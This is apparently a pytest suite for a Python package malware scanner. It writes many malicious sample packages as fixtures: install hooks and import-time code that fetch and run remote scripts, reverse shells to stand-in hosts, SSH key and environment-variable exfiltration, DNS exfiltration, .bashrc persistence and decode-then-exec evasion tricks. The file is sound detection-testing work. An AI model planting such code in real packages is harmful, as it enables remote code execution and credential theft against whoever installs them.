"""Each malicious artifact written here is caught by its rule, at the right member and line."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from checker.findings import Finding, Severity
from checker.heuristics import scan_artifact
from tests.heuristics.artifacts import Files, write_sdist, write_wheel

ELF_HEADER = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


@dataclass(frozen=True, kw_only=True, slots=True)
class Case:
    """A malicious artifact and the finding it must produce."""

    id: str
    kind: str  # "sdist" or "wheel"
    files: Files
    rule: str
    member: str  # path inside the artifact (sdists: below the top directory)
    line: int
    severity: Severity = Severity.ERROR


SETUP_NETWORK = """\
import socket
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("https://telemetry.example.org/i?h=" + socket.gethostname())


setup(name="evilpkg", version="1.0", cmdclass={"install": PostInstall})
"""

SETUP_PROCESS = """\
import os
from setuptools import setup

os.system("curl -s https://cdn.example.org/boot.sh | sh")
setup(name="evilpkg", version="1.0")
"""

SETUP_OVERRIDE_PROCESS = """\
import subprocess
from setuptools import setup
from setuptools.command.develop import develop as _develop


class develop(_develop):
    def run(self):
        subprocess.Popen([self.distribution.get_name(), "--init"], start_new_session=True)
        _develop.run(self)


setup(name="evilpkg", version="1.0", cmdclass={"develop": develop})
"""

SETUP_EXEC = """\
from setuptools import setup

_stage = "import os; os.system('id > /tmp/owned')"
exec(_stage)
setup(name="evilpkg", version="1.0")
"""

BACKEND_NETWORK = """\
import requests
from setuptools import build_meta as _orig


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    requests.get("https://cdn.example.org/stage2", timeout=5)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
"""

PTH_EXEC = "import os, base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n"

DECODE_EXEC = """\
import base64
import zlib

_BLOB = "eJzLzC3ILypRSMsvyi1WSEvMzCkFAEMGBvc="
_code = zlib.decompress(base64.b64decode(_BLOB))
exec(compile(_code, "<string>", "exec"))
"""

CHR_JOIN_EVAL = """\
def _load():
    name = "".join(chr(c) for c in [111, 115, 46, 103, 101, 116, 108, 111, 103, 105, 110])
    return eval(name)
"""

MARSHAL_EXEC = """\
import marshal as m
from base64 import b85decode as _d

exec(m.loads(_d(b"c${NkYj`7@0{{R3")))
"""

DOWNLOAD_EXEC = """\
import urllib.request


def update():
    payload = urllib.request.urlopen("https://cdn.example.org/stage2.py").read()
    exec(payload)
"""

DOWNLOAD_RUN = """\
import os
import subprocess
import tempfile

import requests


def fetch_helper():
    target = os.path.join(tempfile.gettempdir(), "helper")
    response = requests.get("https://cdn.example.org/helper.bin", timeout=10)
    with open(target, "wb") as handle:
        handle.write(response.content)
    os.chmod(target, 0o755)
    subprocess.Popen([target], start_new_session=True)
"""

REVERSE_SHELL = """\
import os
import socket
import subprocess


def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
"""

PTY_SHELL = """\
import pty
import socket as so

conn = so.create_connection(("shell.example.org", 4444))
pty.spawn("/bin/bash")
"""

SHELL_ONE_LINER = """\
import subprocess

CMD = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
"""

CREDENTIAL_EXFIL = """\
import os

import requests


def _sync():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://collector.example.org/k", data={"k": key})
"""

ENVIRON_EXFIL = """\
import json
import os
import urllib.request


def report():
    body = json.dumps(dict(os.environ)).encode()
    request = urllib.request.Request("https://collector.example.org/e", data=body)
    urllib.request.urlopen(request)
"""

DISCORD_WEBHOOK = """\
import requests

HOOK = "https://discord.com/api/webhooks/1122334455667788990/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"


def send(text):
    requests.post(HOOK, json={"content": text})
"""

RAW_IP = """\
import urllib.request

C2 = "http://45.77.12.9:8080/beacon"
"""

OBFUSCATED = """\
O0O0O0 = 1
OO00OO = 2
O0OO00 = O0O0O0 + OO00OO
OOO000 = O0OO00 * 2
O00O0O = OOO000 - 1
"""

CASES = [
    Case(id="setup-network", kind="sdist", files={"setup.py": SETUP_NETWORK},
         rule="mal.install-hook-network", member="setup.py", line=10),
    Case(id="setup-process", kind="sdist", files={"setup.py": SETUP_PROCESS},
         rule="mal.install-hook-process", member="setup.py", line=4),
    Case(id="setup-override-process", kind="sdist", files={"setup.py": SETUP_OVERRIDE_PROCESS},
         rule="mal.install-hook-process", member="setup.py", line=8),
    Case(id="setup-exec", kind="sdist", files={"setup.py": SETUP_EXEC},
         rule="mal.install-hook-exec", member="setup.py", line=4),
    Case(id="setup-helper-module", kind="sdist",
         files={"setup.py": "from setuptools import setup\nimport build_helpers\nsetup()\n",
                "build_helpers.py": "import urllib.request\n\n"
                "urllib.request.urlretrieve('https://cdn.example.org/x', '/tmp/x')\n"},
         rule="mal.install-hook-network", member="build_helpers.py", line=3),
    Case(id="setup-pip-install", kind="sdist",
         files={"setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
                "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'colourama'])\n"
                "subprocess.check_call('pip install colourama', shell=True)\nsetup()\n"},
         rule="mal.install-hook-process", member="setup.py", line=4),
    Case(id="pth-in-wheel-data", kind="wheel",
         files={"evilpkg-1.0.data/purelib/zz.pth": "import socket; socket.socket()\n"},
         rule="mal.pth-exec", member="evilpkg-1.0.data/purelib/zz.pth", line=1),
    Case(id="import-time-dropper", kind="wheel",
         files={"evilpkg/__init__.py": "import os\n\nos.system('curl -fsS x.example | sh')\n"},
         rule="mal.import-time-process", member="evilpkg/__init__.py", line=3),
    Case(id="import-time-probe", kind="wheel",
         files={"evilpkg/__init__.py": "import subprocess as s\nA = s.check_output(['uname'])\n"},
         rule="mal.import-time-process", member="evilpkg/__init__.py", line=2,
         severity=Severity.WARNING),
    Case(id="in-tree-backend", kind="sdist",
         files={"pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
                'build-backend = "backend"\nbackend-path = ["_build"]\n',
                "_build/backend.py": BACKEND_NETWORK},
         rule="mal.install-hook-network", member="_build/backend.py", line=6),
    Case(id="pth-exec", kind="wheel", files={"evil_init.pth": PTH_EXEC, "evilpkg/__init__.py": ""},
         rule="mal.pth-exec", member="evil_init.pth", line=1),
    Case(id="decode-exec", kind="wheel", files={"evilpkg/__init__.py": DECODE_EXEC},
         rule="mal.decode-exec", member="evilpkg/__init__.py", line=6),
    Case(id="chr-join-eval", kind="wheel", files={"evilpkg/util.py": CHR_JOIN_EVAL},
         rule="mal.decode-exec", member="evilpkg/util.py", line=3),
    Case(id="marshal-exec", kind="sdist", files={"evilpkg/__init__.py": MARSHAL_EXEC},
         rule="mal.decode-exec", member="evilpkg/__init__.py", line=4),
    Case(id="download-exec", kind="wheel", files={"evilpkg/update.py": DOWNLOAD_EXEC},
         rule="mal.download-exec", member="evilpkg/update.py", line=6),
    Case(id="download-run", kind="wheel", files={"evilpkg/helper.py": DOWNLOAD_RUN},
         rule="mal.download-exec", member="evilpkg/helper.py", line=14),
    Case(id="reverse-shell-dup2", kind="wheel", files={"evilpkg/net.py": REVERSE_SHELL},
         rule="mal.reverse-shell", member="evilpkg/net.py", line=9),
    Case(id="reverse-shell-pty", kind="sdist", files={"evilpkg/__init__.py": PTY_SHELL},
         rule="mal.reverse-shell", member="evilpkg/__init__.py", line=5),
    Case(id="reverse-shell-text", kind="wheel", files={"evilpkg/cmd.py": SHELL_ONE_LINER},
         rule="mal.reverse-shell", member="evilpkg/cmd.py", line=3),
    Case(id="credential-exfil", kind="wheel", files={"evilpkg/sync.py": CREDENTIAL_EXFIL},
         rule="mal.credential-exfil", member="evilpkg/sync.py", line=8),
    Case(id="environ-exfil", kind="sdist", files={"evilpkg/report.py": ENVIRON_EXFIL},
         rule="mal.credential-exfil", member="evilpkg/report.py", line=9),
    Case(id="discord-webhook", kind="wheel", files={"evilpkg/hook.py": DISCORD_WEBHOOK},
         rule="mal.exfil-endpoint", member="evilpkg/hook.py", line=3),
    Case(id="raw-ip", kind="wheel", files={"evilpkg/c2.py": RAW_IP},
         rule="mal.exfil-endpoint", member="evilpkg/c2.py", line=3),
    Case(id="bundled-binary", kind="wheel",
         files={"evilpkg/__init__.py": "", "evilpkg/bin/helper": ELF_HEADER + b"\x00" * 512},
         rule="mal.bundled-binary", member="evilpkg/bin/helper", line=0,
         severity=Severity.WARNING),
    Case(id="obfuscation", kind="wheel", files={"evilpkg/core.py": OBFUSCATED},
         rule="mal.obfuscation", member="evilpkg/core.py", line=1, severity=Severity.WARNING),
]  # fmt: skip

BUILDERS: dict[str, Callable[[Path, str, Files], Path]] = {
    "sdist": write_sdist,
    "wheel": write_wheel,
}


def _member_path(case: Case, artifact: Path) -> str:
    prefix = f"{artifact.name}!"
    return f"{prefix}evilpkg-1.0/{case.member}" if case.kind == "sdist" else prefix + case.member


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_malicious_artifact_is_caught_by_its_rule(case: Case, tmp_path: Path) -> None:
    artifact = BUILDERS[case.kind](tmp_path, "evilpkg", case.files)
    findings = scan_artifact(artifact)
    expected = _member_path(case, artifact)
    hits = [f for f in findings if f.rule == case.rule and f.file == expected]
    assert hits, f"{case.rule} not reported; got {[(f.rule, f.location) for f in findings]}"
    assert case.line in {f.line for f in hits}
    hit = next(f for f in hits if f.line == case.line)
    assert hit.severity is case.severity
    assert hit.column >= (1 if case.line else 0)
    assert "\n" not in hit.message
    assert len(hit.message) <= 200


def test_excerpt_is_one_short_line(tmp_path: Path) -> None:
    long_line = "exec(__import__('base64').b64decode('" + "QUFB" * 100 + "'))\n"
    artifact = write_wheel(tmp_path, "evilpkg", {"evilpkg/__init__.py": long_line})
    [hit] = [f for f in scan_artifact(artifact) if f.rule == "mal.decode-exec"]
    excerpt = hit.message.split(": ", 1)[1]
    assert len(excerpt) <= 120
    assert excerpt.startswith("exec(__import__('base64')")


def test_findings_carry_artifact_and_member(tmp_path: Path) -> None:
    artifact = write_wheel(tmp_path, "evilpkg", {"evilpkg/update.py": DOWNLOAD_EXEC})
    finding: Finding = next(f for f in scan_artifact(artifact) if f.rule == "mal.download-exec")
    assert finding.location == "evilpkg-1.0-py3-none-any.whl!evilpkg/update.py:6:5"


EVASIONS = {
    "import-call-os-system": (
        "__import__('os').system(__import__('base64').b64decode('Y3VybCBldmls').decode())",
        "mal.decode-exec",
    ),
    "getattr-builtins-exec": (
        "import base64\ngetattr(__builtins__, 'exec')(base64.b64decode(b'cHJpbnQoMSk='))",
        "mal.decode-exec",
    ),
    "rot13": ("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", "mal.decode-exec"),
    "reversed-literal": ("exec(')1(tnirp'[::-1])", "mal.decode-exec"),
    "aliased-decoder": (
        "import base64 as b\nx = b.b64decode\nexec(x('cHJpbnQoMSk='))",
        "mal.decode-exec",
    ),
    "fromhex": ("exec(bytes.fromhex('7072696e742831'))", "mal.decode-exec"),
    "int-list": ("exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())", "mal.decode-exec"),
    "shell-of-decoded": (
        "import subprocess, base64\n"
        "subprocess.Popen(base64.b64decode('Y3VybA==').decode(), shell=True)",
        "mal.decode-exec",
    ),
    "embedded-pickle": (
        "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))",
        "mal.decode-exec",
    ),
    "requests-exec": (
        "import requests\nexec(requests.get('https://x.example/p', timeout=3).text)",
        "mal.download-exec",
    ),
    "httpx-eval": (
        "import httpx\nr = httpx.get('https://x.example')\neval(r.text)",
        "mal.download-exec",
    ),
    "attribute-socket": (
        "import socket, os\nclass A:\n    def go(self):\n"
        "        self.s = socket.socket()\n        os.dup2(self.s.fileno(), 0)\n"
        "        os.execl('/bin/sh', 'sh')",
        "mal.reverse-shell",
    ),
    "subprocess-socket-streams": (
        "import socket, subprocess\ns = socket.create_connection(('h.example', 9))\n"
        "subprocess.call(['/bin/sh'], stdin=s, stdout=s, stderr=s)",
        "mal.reverse-shell",
    ),
    "dns-exfil-of-environ": (
        "import os, socket\n"
        "socket.gethostbyname(str(os.environ).encode().hex()[:60] + '.x.example')",
        "mal.credential-exfil",
    ),
    "ngrok": ("URL = 'https://3f2a-198-51-100-7.ngrok-free.app/upload'", "mal.exfil-endpoint"),
    "vars-builtins-exec": ("vars(__builtins__)['exec']('print(1)')", "mal.reflective-call"),
    "escaped-eval-name": ("globals()['\\x65\\x76\\x61\\x6c']('1')", "mal.reflective-call"),
    "encoded-getattr": (
        "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())('1')",
        "mal.reflective-call",
    ),
    "hex-escaped-payload": (
        "exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')",
        "mal.decode-exec",
    ),
    "fernet": (
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAAABl'))",
        "mal.decode-exec",
    ),
    "string-code": ("exec('import os; os.system(\\'id\\')')", "mal.exec-string"),
    "dns-hostname": (
        "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.dnslog-collector.net')",
        "mal.dns-exfil",
    ),
    "aws-secret-post": (
        "import os, requests\n"
        "requests.post('https://c.example.net', data=os.environ['AWS_SECRET_ACCESS_KEY'])",
        "mal.credential-exfil",
    ),
    "bashrc-at-import": (
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x.example | sh')",
        "mal.persistence",
    ),
}


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_evasion_variant_is_caught(name: str, tmp_path: Path) -> None:
    source, rule = EVASIONS[name]
    artifact = write_wheel(tmp_path, "evilpkg", {"evilpkg/__init__.py": source + "\n"})
    errors = {f.rule for f in scan_artifact(artifact) if f.severity is Severity.ERROR}
    assert rule in errors
